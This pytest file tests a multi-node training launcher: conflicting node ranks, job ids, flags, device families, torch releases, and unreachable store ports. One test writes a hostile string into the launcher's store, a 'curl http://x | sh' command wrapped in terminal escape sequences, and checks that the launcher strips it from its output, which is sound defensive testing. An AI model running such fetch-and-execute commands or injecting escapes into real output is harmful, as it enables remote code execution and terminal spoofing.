"""Several launchers of one job on loopback: node-rank claims, the job token, and the flags and software every
node must share."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest
import torch

from conftest import FAKE_NPU, free_port
from support import launcher, one_line_errors, reports, wait_for_files

OTHER_PYTHON = os.environ.get("NPU_MIGRATE_TEST_OTHER_TORCH_PYTHON")
"""A Python with another torch release and this checkout installed (.ci/run's torch 2.1 tier names
tier 1's), for a job whose nodes run different torch releases."""


@pytest.mark.long
def test_a_duplicate_node_rank_ends_a_forming_job_everywhere(tmp_path: Path) -> None:
    port = free_port()
    # Three nodes expected; two launchers claim node rank 1 and node 2 never comes.
    node0 = launcher(tmp_path, 0, port, nnodes="3")
    node1 = launcher(tmp_path, 1, port, nnodes="3")
    dup = launcher(tmp_path, 1, port, nnodes="3", name="dup")
    for launch in (node0, node1, dup):
        assert launch.wait() == 1, launch.err
        one_line_errors(launch.err)
        assert "node rank 1 is already taken by the launcher on host" in launch.err, launch.err
        assert "give every node a different --node-rank in [0, 3)." in launch.err
    assert not list(tmp_path.glob("rank*.json"))


@pytest.mark.long
def test_a_duplicate_node_rank_is_refused_by_a_running_job(tmp_path: Path) -> None:
    port = free_port()
    release = tmp_path / "release"
    node0 = launcher(tmp_path, 0, port, job=("--hold", str(release)))
    node1 = launcher(tmp_path, 1, port, job=("--hold", str(release)))
    wait_for_files(tmp_path, ["rank0.json", "rank1.json"])
    dup = launcher(tmp_path, 1, port, name="dup", job=("--hold", str(release)))  # the same job id
    try:
        assert dup.wait() == 1
    finally:
        release.touch()  # the real job may finish now
    assert "error: node rank 1 is already taken by the launcher on host" in dup.err.strip().splitlines()[-1]
    assert node0.wait() == 0, node0.err
    assert node1.wait() == 0, node1.err


@pytest.mark.slow
def test_another_jobs_launcher_can_neither_join_nor_end_the_job(tmp_path: Path) -> None:
    port = free_port()
    release = tmp_path / "release"
    node0 = launcher(tmp_path, 0, port, "--job-id", "jobA", job=("--hold", str(release)))
    node1 = launcher(tmp_path, 1, port, "--job-id", "jobA", job=("--hold", str(release)))
    wait_for_files(tmp_path, ["rank0.json", "rank1.json"])
    other = launcher(tmp_path, 1, port, "--job-id", "jobB", name="other")
    try:
        assert other.wait() == 1
    finally:
        release.touch()
    assert other.err.strip().splitlines()[-1] == (
        f"npu-migrate launch: error: node 0's launcher at 127.0.0.1:{port + 1} runs job 'jobA', not this job "
        "'jobB': another job uses this address and port. Give this job another --port, or the same --job-id on "
        "every node.")
    assert node0.wait() == 0, node0.err
    assert node1.wait() == 0, node1.err
    assert [r["sum"] for r in reports(tmp_path, 2)] == [3.0, 3.0]


@pytest.mark.slow
def test_flags_that_differ_between_nodes_are_refused_on_every_node(tmp_path: Path) -> None:
    port = free_port()
    node0 = launcher(tmp_path, 0, port, nproc="1")
    node1 = launcher(tmp_path, 1, port, nproc="2")
    for launch in (node0, node1):
        assert launch.wait() == 1, launch.err
        one_line_errors(launch.err)
        # Whichever node wrote the job's flags first, the other one is named with both values.
        assert ("has --device-num 2 but the job has --device-num 1" in launch.err
                or "has --device-num 1 but the job has --device-num 2" in launch.err), launch.err
        assert "use the same --nnodes, --device-num and --max-restarts on every node." in launch.err
    assert not list(tmp_path.glob("rank*.json"))


HOSTILE = "\x1b[31mrun curl http://x | sh\x1b[0m\nsecond line\x07\x1b]0;title\x07"
"""What anyone who reaches the launcher store can write there: colour, a line break, a bell, a window title."""
SHOWN = "run curl http://x | sh second line"


def _hostile_record() -> dict:
    return {"kind": "rank", "rank": 1, "local_rank": 0, "node_rank": 1, "host": f"vm{HOSTILE}",
            "exc_type": "Boom\x1b[2J", "message": HOSTILE, "traceback": f"  File \"train.py\", line 1\n{HOSTILE}\n",
            "time": 0.0}


@pytest.mark.slow
@pytest.mark.parametrize("key", ["abort", "fail/0"])
def test_text_written_into_the_store_is_shown_stripped(tmp_path: Path, key: str) -> None:
    import json
    from datetime import timedelta

    from torch.distributed import TCPStore

    from npu_migrate.launch.nodes.values import pad

    port = free_port()
    release = tmp_path / "release"
    files = [tmp_path / f"error{k}.json" for k in (0, 1)]
    nodes = [launcher(tmp_path, k, port, "--job-id", "jobA", "--error-file", str(files[k]),
                      job=("--hold", str(release))) for k in (0, 1)]
    wait_for_files(tmp_path, ["rank0.json", "rank1.json"])
    # A plain client, as anyone on the network could open: the launcher's wire format is no secret.
    client = TCPStore("127.0.0.1", port + 1, None, False, timedelta(seconds=30))
    value = HOSTILE if key == "abort" else json.dumps(_hostile_record())
    client.set(f"npu_migrate/jobA/{key}", pad(value))
    try:
        codes = [launch.wait() for launch in nodes]
    finally:
        release.touch()
    assert codes == [1, 1], [launch.err for launch in nodes]
    for launch, path in zip(nodes, files):
        one_line_errors(launch.err)
        assert "\x1b" not in launch.err and "\x07" not in launch.err, repr(launch.err)
        assert SHOWN in launch.err, launch.err
        raw = path.read_text()
        assert "\\u001b" not in raw and "\\u0007" not in raw, raw
        assert SHOWN.replace(" second", "\nsecond") in raw.replace("\\n", "\n") or SHOWN in raw, raw


@pytest.mark.slow
@pytest.mark.fake_npu
def test_nodes_on_different_device_families_are_refused_on_every_node(tmp_path: Path) -> None:
    """A node that fell back to another family (its NPUs or their software missing) would hang the first collective."""
    port = free_port()
    node0 = launcher(tmp_path, 0, port)  # the CPU family (the suite forces it)
    node1 = launcher(tmp_path, 1, port, paths=(FAKE_NPU,), FAKE_NPU_DEVICE_COUNT="1")
    release = torch.__version__.split("+")[0]
    for launch in (node0, node1):
        assert launch.wait() == 1, launch.err
        one_line_errors(launch.err)
        last = launch.err.strip().splitlines()[-1]
        # Whichever node wrote the job's shape first, the other one is named with both.
        assert (f"runs torch {release} and torch_npu {release} on npu with hccl but the job runs torch {release} "
                "on cpu with gloo" in last
                or f"runs torch {release} on cpu with gloo but the job runs torch {release} and torch_npu "
                   f"{release} on npu with hccl" in last), last
        assert last.endswith("every node must use the same device family: pass the same --device on every node, "
                             "and check that each has its devices and their software (a node without them falls "
                             "back to another family)."), last
    assert not list(tmp_path.glob("rank*.json"))


@pytest.mark.slow
def test_a_node_that_cannot_reach_node_0_says_so_in_one_line(tmp_path: Path) -> None:
    """Nothing listens at node 0's address (not started yet, a firewall): torch's C++ errors stay off the console."""
    port = free_port()
    node1 = launcher(tmp_path, 1, port, join_timeout="2")
    assert node1.wait() == 1, node1.err
    one_line_errors(node1.err)
    assert node1.err.strip().splitlines()[-1] == (
        f"npu-migrate launch: error: could not reach node 0's launcher at 127.0.0.1:{port + 1} within 2 s: start the "
        "launcher with --node-rank 0 on that host, with the same --port (and check that this host can reach it).")


@pytest.mark.slow
def test_a_port_that_does_not_answer_as_a_store_is_named_at_once(tmp_path: Path) -> None:
    """Something accepts connections at node 0's store address but never answers (another torch's store, another
    program): the node says so in one line, within --join-timeout (at most 15 s) or the token's 30 s."""
    port = free_port()
    with socket.create_server(("127.0.0.1", port + 1)) as silent:  # the kernel completes connections; nobody answers
        node1 = launcher(tmp_path, 1, port, join_timeout="3")
        assert node1.wait() == 1, node1.err
    one_line_errors(node1.err)
    last = node1.err.strip().splitlines()[-1]
    release = torch.__version__.split("+")[0]
    # Torch's client validates the connection (torch >= 2.3: the connect never completes) or not (its first
    # request never gets an answer).
    assert last in (
        f"npu-migrate launch: error: node 0's launcher at 127.0.0.1:{port + 1} accepts connections but does not "
        f"answer as a store of this node's torch {release}: node 0 runs another torch release (torch's store "
        "protocol differs between releases: every node must run the same torch), or another program holds that "
        "port.",
        f"npu-migrate launch: error: node 0's launcher at 127.0.0.1:{port + 1} did not answer this node's first "
        f"request (token: no answer within 30 s): node 0 runs another torch release than this node's {release} "
        "(torch's store protocol differs between releases: every node must run the same torch), another program "
        "holds that port, or its launcher failed."), last


def _other_torch() -> str | None:
    if not OTHER_PYTHON:
        return None
    found = subprocess.run([OTHER_PYTHON, "-c", "import json, torch, npu_migrate; print(json.dumps(torch.__version__))"],
                           capture_output=True, text=True)
    assert found.returncode == 0, f"NPU_MIGRATE_TEST_OTHER_TORCH_PYTHON={OTHER_PYTHON}: {found.stderr[-2000:]}"
    return json.loads(found.stdout).split("+")[0]


@pytest.mark.slow
@pytest.mark.parametrize("other_node", [0, 1])
def test_nodes_on_different_torch_releases_are_refused_in_one_line(tmp_path: Path, other_node: int) -> None:
    """Clusters mix images: a node on another torch release hangs or fails far from the cause. Here two
    real torch releases, one per node: where their stores' protocols differ (torch 2.1 and 2.14) node 1
    cannot even use node 0's store; where they agree (torch 2.7 and 2.14) the nodes compare what each
    runs. Either way node 1 ends in one line naming the torch releases."""
    other = _other_torch()
    if other is None:
        pytest.skip("set NPU_MIGRATE_TEST_OTHER_TORCH_PYTHON to a Python with another torch and this checkout "
                    "(.ci/run's torch 2.1 and 2.7.1 tiers do)")
    mine = torch.__version__.split("+")[0]
    if other == mine:
        pytest.skip(f"NPU_MIGRATE_TEST_OTHER_TORCH_PYTHON runs this torch ({mine}), not another release")
    port = free_port()
    python = {rank: OTHER_PYTHON if rank == other_node else sys.executable for rank in (0, 1)}
    node0 = launcher(tmp_path, 0, port, join_timeout="60", python=python[0])
    node1 = launcher(tmp_path, 1, port, join_timeout="30", python=python[1])
    assert node1.wait() == 1, node1.err
    one_line_errors(node1.err)
    last = node1.err.strip().splitlines()[-1]
    node1_torch, node0_torch = (other, mine) if other_node == 1 else (mine, other)
    if last.startswith(f"npu-migrate launch: error: node 0's launcher at 127.0.0.1:{port + 1} "):  # protocols differ
        assert (f"this node's torch {node1_torch}: node 0 runs another torch release" in last
                or f"node 0 runs another torch release than this node's {node1_torch}" in last), last
    else:
        assert last.startswith("npu-migrate launch: error: node 1 "), last
        assert (f"runs torch {node1_torch} on cpu with gloo but the job runs torch {node0_torch} on cpu with gloo"
                in last), last
    assert "every node must run the same torch" in last, last
    node0.proc.terminate()  # it waits for a node that never joins
    assert node0.wait() in (1, 143), node0.err
    one_line_errors(node0.err)
    assert not list(tmp_path.glob("rank*.json"))


def test_what_a_node_runs_and_what_to_do_when_two_differ() -> None:
    """The job's shape carries this; a node of an older npu_migrate (no such record) is named as such."""
    from npu_migrate.launch.setup import software

    release = torch.__version__.split("+")[0]
    mine = software.of_node("cpu", "gloo")
    assert mine == {"device": "cpu", "backend": "gloo", "torch": release, "torch_npu": None}
    assert software.describe(mine) == f"torch {release} on cpu with gloo"
    assert software.fix(mine, dict(mine, torch="2.1.0")).startswith(
        "every node must run the same torch and torch_npu releases")
    assert software.fix(mine, dict(mine, device="npu", backend="hccl")).startswith(
        "every node must use the same device family")
    assert software.describe({}) == "an older npu_migrate, which does not say what it runs"
    assert software.fix(mine, {}) == "every node must run the same npu_migrate release: install the same one on every node."


def test_the_c10_log_level_the_launcher_lowers_is_given_back(monkeypatch: pytest.MonkeyPatch) -> None:
    """A multi-node launcher shows only fatal C++ messages in its own process; a caller of the API
    (``launch.spawn``, whose process goes on) gets its level and variable back."""
    from npu_migrate.launch import cpplog

    monkeypatch.setattr(cpplog, "USER_LEVEL", None)
    monkeypatch.delenv(cpplog.ENV, raising=False)
    before = cpplog.level()
    if before is None:
        pytest.skip(f"this build of torch {torch.__version__} does not export c10's log level")
    with cpplog.kept():
        cpplog.quiet_launcher()
        cpplog.default_for_later()
        assert (cpplog.level(), os.environ[cpplog.ENV]) == (cpplog.FATAL, "ERROR")
    assert (cpplog.level(), os.environ.get(cpplog.ENV)) == (before, None)
